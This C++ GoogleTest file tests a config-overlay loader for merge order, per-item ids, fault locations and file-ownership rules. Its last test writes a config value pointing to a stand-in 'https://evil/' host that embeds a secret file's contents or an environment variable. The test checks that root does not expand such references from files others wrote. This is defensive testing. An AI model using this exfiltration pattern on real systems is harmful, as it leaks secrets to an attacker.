// SPDX-License-Identifier: Apache-2.0
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "config/reading.hpp"

namespace porchlight::config {
namespace {

class Overlay : public testing::Test {
 protected:
  void SetUp() override {
    folder_ = std::filesystem::temp_directory_path() / ("porchlight-overlay-" + std::to_string(::getpid()));
    std::filesystem::create_directories(folder_ / "config.d");
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }
  void write(const std::string& name, const std::string& text) { std::ofstream(folder_ / name) << text; }
  Document load() {
    auto document = Document::load(folder_ / "main.yaml", faults_);
    EXPECT_TRUE(document.ok());
    EXPECT_TRUE(document->overlay(folder_ / "config.d", faults_).ok());
    return std::move(document).value();
  }
  // Faults with the temporary folder taken off.
  std::vector<std::string> seen() {
    auto all = texts(faults_);
    for (auto& text : all) text.erase(0, folder_.string().size() + 1);
    return all;
  }

  std::filesystem::path folder_;
  Faults faults_;
};

TEST_F(Overlay, MergesMappingsAndTheLaterFileWins) {
  write("main.yaml", "server: {listen: a, port: 1}\ncameras: [{id: a, url: b}]\n");
  write("config.d/10-x.yaml", "server: {port: 2}\ncameras: [{id: c, url: d}, {id: e, url: f}]\n");
  write("config.d/20-y.yaml", "server: {port: 3, enabled: false}\n");
  write("config.d/30-z.yaml.bak", "server: {port: 4}\n");
  auto root = load().root();
  EXPECT_EQ(root.section("server").text("listen", ""), "a");
  EXPECT_EQ(root.section("server").integer("port", 0, 0, 9), 3);
  EXPECT_EQ(root.section("server").boolean("enabled", true), false);
  EXPECT_EQ(root.list("cameras").size(), 3u);
}

TEST_F(Overlay, AnItemIsLaidOverTheOneOfItsId) {
  write("main.yaml", "cameras: [{id: a, url: b, stall: 5s}, {id: c, url: d}]\n");
  write("config.d/a.yaml", "cameras: [{id: e, url: f}, {id: a, stall: 7s}]\n");
  write("config.d/b.yaml", "cameras: [{id: e, url: g}]\n");
  auto document = load();
  auto root = document.root();
  auto cameras = root.list("cameras");
  ASSERT_EQ(cameras.size(), 3u);
  EXPECT_EQ(cameras[0].text("id", ""), "a");
  EXPECT_EQ(cameras[0].text("url", ""), "b");
  EXPECT_EQ(cameras[0].duration("stall", {}, {}, std::chrono::hours(1)), std::chrono::seconds(7));
  EXPECT_EQ(cameras[1].text("id", ""), "c");
  EXPECT_EQ(cameras[2].text("url", ""), "g");
  EXPECT_EQ(cameras[0].place_of("url").file, (folder_ / "main.yaml").string());
  EXPECT_EQ(cameras[0].place_of("stall").file, (folder_ / "config.d/a.yaml").string());
}

TEST_F(Overlay, ListsWithoutIdsAreReplaced) {
  write("main.yaml",
        "to: [a, b]\nmasks: [{points: 1}, {points: 2}]\nzones: [{id: a}, {id: b}]\nnone: [{id: a}]\n");
  write("config.d/a.yaml", "to: [c]\nmasks: [{points: 3}]\nzones: [{id: c}, {name: d}]\nnone: []\n");
  auto document = load();
  auto root = document.root();
  EXPECT_THAT(root.text_list("to"), testing::ElementsAre("c"));
  EXPECT_EQ(root.list("masks").size(), 1u);
  EXPECT_EQ(root.list("zones").size(), 2u) << "one of its items has no id";
  EXPECT_EQ(root.list("none").size(), 0u);
}

// What stands twice in one file is for the room to refuse, and not one camera made of two.
TEST_F(Overlay, OneIdTwiceInOneFileStaysThereTwice) {
  write("main.yaml", "cameras: [{id: a, url: b}]\n");
  write("config.d/a.yaml", "cameras: [{id: a, url: c}, {id: a, url: d}, {id: e}, {id: e}]\n");
  auto document = load();
  auto root = document.root();
  std::vector<std::string> ids;
  for (auto& camera : root.list("cameras")) ids.push_back(camera.text("id", ""));
  EXPECT_THAT(ids, testing::ElementsAre("a", "a", "e", "e"));
}

TEST_F(Overlay, AFaultOfAMergedItemNamesItsOwnFile) {
  write("main.yaml", "cameras:\n  - {id: a, url: b, stall: 5}\n");
  write("config.d/a.yaml", "\ncameras:\n  - {id: a, record: maybe}\n  - {id: x, urk: 1}\n");
  read_sample(load().root());
  const auto all = seen();
  EXPECT_THAT(all, testing::Contains(testing::StartsWith("main.yaml:2:21: cameras[0].stall: ")));
  EXPECT_THAT(all, testing::Contains(testing::StartsWith("config.d/a.yaml:3:13: cameras[0].record: ")));
  EXPECT_THAT(all, testing::Contains(testing::StartsWith("config.d/a.yaml:4:13: cameras[1].urk: ")));
}

// Whose a value is goes by the file of the value, not by that of its item.
TEST_F(Overlay, AProgramOfTheMainFileStaysRootsOwnUnderAnothersName) {
  write("main.yaml", "list: [{id: a, command: [/bin/main]}, {id: b}]\n");
  write("config.d/50-page.yaml", "list: [{id: a, name: x}, {id: b, command: [/bin/over]}]\n");
  const auto page = folder_ / "config.d" / page_file_name;
  ASSERT_EQ(::chmod(page.c_str(), 0600), 0);
  auto document = load();
  auto root = document.root();
  auto list = root.list("list");
  EXPECT_TRUE(list.at(0).is_roots_own("command"));
  EXPECT_FALSE(list.at(0).is_roots_own("name"));
  EXPECT_FALSE(list.at(1).is_roots_own("command"))
      << "the program's own file names no program, whoever owns it";
}

TEST_F(Overlay, ATextStandsForAFile) {
  write("main.yaml", "a: 1\nb: 1\n");
  write("config.d/50-page.yaml", "a: 2\n");
  write("config.d/60.yaml", "b: 3\n");
  const auto with = [this](const Stand* stand, const char* key) {
    auto document = Document::load(folder_ / "main.yaml", faults_);
    EXPECT_TRUE(document->overlay(folder_ / "config.d", faults_, stand).ok());
    return document->root().integer(key, 0, 0, 9);
  };
  const Stand gone{page_file_name, std::nullopt}, other{page_file_name, "a: 5\nb: 5\n"};
  EXPECT_EQ(with(nullptr, "a"), 2);
  EXPECT_EQ(with(&gone, "a"), 1);
  EXPECT_EQ(with(&other, "a"), 5);
  EXPECT_EQ(with(&other, "b"), 3) << "a later file still wins";
}

TEST_F(Overlay, TheRawTreeSaysWhatWasWrittenAndWhere) {
  write("main.yaml", "list: [{id: a, secret: '${ENV:NO}', on: true}]\n");
  write("config.d/a.yaml", "list: [{id: a, number: \"7\", none: }]\n");
  const auto raw = load().raw();
  const auto* list = raw.find("list");
  ASSERT_NE(list, nullptr);
  const auto& item = list->items.at(0);
  EXPECT_EQ(item.find("secret")->text, "${ENV:NO}");
  EXPECT_EQ(item.find("secret")->file, (folder_ / "main.yaml").string());
  EXPECT_FALSE(item.find("on")->quoted);
  EXPECT_TRUE(item.find("number")->quoted);
  EXPECT_EQ(item.find("number")->file, (folder_ / "config.d/a.yaml").string());
  EXPECT_EQ(item.find("none")->kind, Raw::Kind::nothing);
  EXPECT_EQ(item.find("nothing"), nullptr);
  EXPECT_TRUE(faults_.empty());
}

TEST_F(Overlay, FaultsNameTheFileTheyStandIn) {
  write("main.yaml", "server:\n  listen: a\n  port: x\n");
  write("config.d/a.yaml", "\nserver:\n  enabled: maybe\n  prot: 1\n");
  read_sample(load().root());
  EXPECT_THAT(seen(), testing::ElementsAre(
                          "config.d/a.yaml:3:3: server.enabled: expected true or false, found 'maybe'",
                          "config.d/a.yaml:4:3: server.prot: unknown key (did you mean 'port'?)",
                          "main.yaml:3:3: server.port: expected a whole number, found 'x'"));
}

TEST_F(Overlay, AReplacedValueIsTheLaterFiles) {
  write("main.yaml", "server: {port: 1}\n");
  write("config.d/a.yaml", "\n\nserver: {port: x}\n");
  read_sample(load().root());
  EXPECT_THAT(seen(),
              testing::ElementsAre("config.d/a.yaml:3:10: server.port: expected a whole number, found 'x'"));
}

TEST_F(Overlay, ASyntaxFaultInOneFileKeepsTheOthersFaults) {
  write("main.yaml", "server: {port: x}\ncameras: [{id: a}]\n");
  write("config.d/a.yaml", "cameras: [{id: a\n");
  read_sample(load().root());
  EXPECT_THAT(seen(),
              testing::ElementsAre("config.d/a.yaml:1:1: syntax: end of map flow not found",
                                   "main.yaml:1:10: server.port: expected a whole number, found 'x'"));
}

TEST_F(Overlay, AMissingFolderIsNoFault) {
  write("main.yaml", "server: {port: 1}\n");
  std::filesystem::remove_all(folder_ / "config.d");
  read_sample(load().root());
  EXPECT_TRUE(faults_.empty());
}

TEST_F(Overlay, AnEmptyFileChangesNothing) {
  write("main.yaml", "server: {port: 5}\n");
  write("config.d/a.yaml", "# nothing\n");
  write("config.d/b.yaml", "server:\n");
  EXPECT_EQ(load().root().section("server").integer("port", 0, 0, 9), 5);
}

TEST_F(Overlay, ATooLargeFileIsAFaultWithItsName) {
  write("main.yaml", "#" + std::string(1024 * 1024 + 100, 'x'));
  read_sample(load().root());
  EXPECT_THAT(seen(), testing::ElementsAre("main.yaml:1:1: the file is larger than 1 MiB"));
}

// What the service may write can name no program for root to start.
TEST_F(Overlay, TellsWhatOthersThanRootMayWrite) {
  write("main.yaml", "list: [{command: [/bin/main]}]\nother: 1\n");
  write("config.d/a.yaml", "list: [{command: [/bin/over]}]\n");
  const auto is_roots_own = [&] {
    auto document = load();
    auto root = document.root();
    EXPECT_TRUE(root.is_roots_own("other")) << "the main file is named by whoever starts the program";
    return root.list("list").at(0).is_roots_own("command");
  };
  const auto over = folder_ / "config.d" / "a.yaml";
  ASSERT_EQ(::chmod(over.c_str(), 0666), 0);
  EXPECT_FALSE(is_roots_own());
  ASSERT_EQ(::chmod(over.c_str(), 0664), 0);
  EXPECT_FALSE(is_roots_own());
  ASSERT_EQ(::chmod(over.c_str(), 0644), 0);
  EXPECT_EQ(is_roots_own(), ::geteuid() == 0);
  if (::geteuid() == 0) {
    ASSERT_EQ(::chown(over.c_str(), 65534, 65534), 0);
    EXPECT_FALSE(is_roots_own());
  }
  std::filesystem::remove(over);
  EXPECT_TRUE(is_roots_own());
}

// Else whoever may write it has root read a file, and send it to where the same file says.
TEST_F(Overlay, RootFollowsNoReferenceThatAnotherWrote) {
  if (::geteuid() != 0) GTEST_SKIP() << "only root reads more than the one who wrote the file";
  write("secret", "s3cret");
  write("main.yaml", "a: 1\n");
  write("config.d/a.yaml", "url: \"https://evil/${file:" + (folder_ / "secret").string() + "}\"\n");
  const auto over = folder_ / "config.d" / "a.yaml";
  EXPECT_EQ(load().root().text("url", ""), "https://evil/s3cret");
  ASSERT_EQ(::chown(over.c_str(), 65534, 65534), 0);
  EXPECT_EQ(load().root().text("url", ""), "");
  EXPECT_THAT(seen(), testing::ElementsAre(testing::HasSubstr("root does not follow it")));
  write("config.d/a.yaml", "url: \"https://evil/${ENV:PATH}\"\n");
  ASSERT_EQ(::chown(over.c_str(), 65534, 65534), 0);
  EXPECT_EQ(load().root().text("url", ""), "");
}

}  // namespace
}  // namespace porchlight::config
